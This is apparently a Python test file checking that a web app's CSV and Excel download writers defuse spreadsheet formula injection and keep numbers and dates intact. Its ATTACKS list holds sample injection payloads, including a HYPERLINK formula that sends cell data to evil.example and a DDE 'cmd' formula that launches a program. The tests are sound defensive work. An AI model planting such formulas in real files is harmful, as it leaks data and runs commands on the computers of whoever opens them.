"""No cell of a downloaded table is a formula, whatever the data holds; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.views import downloads
from ui.views.spreadsheets import write_csv, write_excel

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
)
HARMLESS = ("", "plain", "a=b", "x-1", "mail@example.org", "'quoted", "1,5", "a\nb", "Ärger “quoted”")


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_excel(content: bytes) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    for row in read_csv(write_csv([text], [[text]])):
        assert row[0].startswith("'")
        assert row[0].replace("'", "") == text.replace("'", "")
    for row in read_excel(write_excel([text], [[text]])):
        assert str(row[0]).startswith("'")


@pytest.mark.parametrize("text", ["a;=1+1", "a; -2+3", "a\t@SUM(1)", "a\n=1+1", "a\r\n+1", 'a;"=1+1"', "a;＝1+1"])
def test_no_formula_begins_where_semicolons_separate_cells(text: str) -> None:
    """As Excel reads a CSV in much of Europe: a quote within a cell is a letter, and a line ends where it ends."""
    for line in write_csv(["n", text], [[1, text]]).decode("utf-8-sig").splitlines():
        for cell in re.split("[;\t]", line):
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), line


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert read_csv(write_csv(["c", "n"], [[text, 1]])) == [["c", "n"], [text, "1"]]
    assert read_excel(write_excel(["c", "n"], [[text, 1]]))[1] == [text or None, 1]


def test_numbers_and_days_stay_what_they_are() -> None:
    values = [-1, -2.5, Decimal("-3.25"), True, None, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4), time(5, 6)]
    names = [f"c{n}" for n in range(len(values))]
    assert read_csv(write_csv(names, [values]))[1] == [
        *("-1", "-2.5", "-3.25", "True", "", "2026-01-02", "2026-01-02 03:04:00", "05:06:00")
    ]
    whole = read_excel(write_excel(names, [values]))[1]
    assert whole[:5] == [-1, -2.5, -3.25, True, None]
    assert whole[5:] == [datetime(2026, 1, 2), datetime(2026, 1, 2, 3, 4), time(5, 6)]


def test_what_excel_cannot_hold_is_text_or_empty() -> None:
    far = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
    values = [float("nan"), float("-inf"), 12345678901234567890, -12345678901234567, far, date(1812, 6, 24), "a\x00b"]
    assert read_excel(write_excel(list("abcdefg"), [values]))[1] == [
        *(None, None, "12345678901234567890", "'-12345678901234567", "2026-01-02 03:04:00+00:00", "1812-06-24", "a�b")
    ]


@given(
    st.lists(
        st.one_of(
            st.text(), st.integers(), st.floats(), st.dates(), st.datetimes(), st.booleans(), st.none(),
            st.binary(), st.timedeltas(max_value=timedelta(days=9)), st.decimals(), st.lists(st.integers(), max_size=2),
        ),
        min_size=1,
        max_size=6,
    )
)  # fmt: skip
def test_no_table_holds_a_formula(values: list[object]) -> None:
    names = [f"c{n}" for n in range(len(values))]
    for value, cell in zip(values, read_csv(write_csv(names, [values]))[1], strict=True):
        assert not (isinstance(value, str) and cell.lstrip().startswith(("=", "+", "-", "@")))
    read_excel(write_excel(names, [values]))


class Given:
    """A session whose execution gave a table."""

    def table(self, _execution: str, *, rows_max: int) -> object:
        assert rows_max >= 1_000_000

        class Transcript:
            columns = ("name", "amount")
            rows = (("=1+1", -5),)
            total = 1

        return Transcript()


def test_the_page_downloads_these() -> None:
    columns, rows = downloads.list_raw_rows(Given(), "1.1.1")  # type: ignore[arg-type]
    assert read_csv(write_csv(columns, rows)) == [["name", "amount"], ["'=1+1", "-5"]]
    assert read_excel(write_excel(columns, rows)) == [["name", "amount"], ["'=1+1", -5]]


def test_parquet_keeps_numbers_and_mixed_columns() -> None:
    import io

    from pyarrow import parquet

    made = parquet.read_table(io.BytesIO(downloads.write_parquet(["n", "mixed"], [[1.5, 1], [None, "x"]])))
    assert made.to_pydict() == {"n": [1.5, None], "mixed": ["1", "x"]}
